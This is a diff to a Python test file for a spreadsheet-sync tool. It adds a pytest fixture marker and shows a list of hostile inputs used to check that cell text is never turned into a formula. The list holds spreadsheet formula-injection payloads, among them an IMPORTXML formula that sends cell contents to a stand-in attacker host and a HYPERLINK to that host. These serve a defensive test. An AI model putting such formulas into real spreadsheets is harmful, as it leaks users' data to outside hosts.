@@ -1,4 +1,5 @@
 """Hostile text never becomes a formula; a student's sheet never shows another student."""
+import pytest
 import re
 
 from openpyxl import load_workbook
@@ -9,6 +10,8 @@ from sheetsync.demo import generate_cohort
 from sheetsync.demo.google import upload_cohort
 from sheetsync.testing import FakeGoogle
 from tests.conftest import NOW
+
+pytestmark = pytest.mark.usefixtures("read_via")     # on both Google read paths
 
 HOSTILE = ['=IMPORTXML("http://evil.example/?"&A1,"//a")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", '=HYPERLINK("http://evil.example","klicka")']
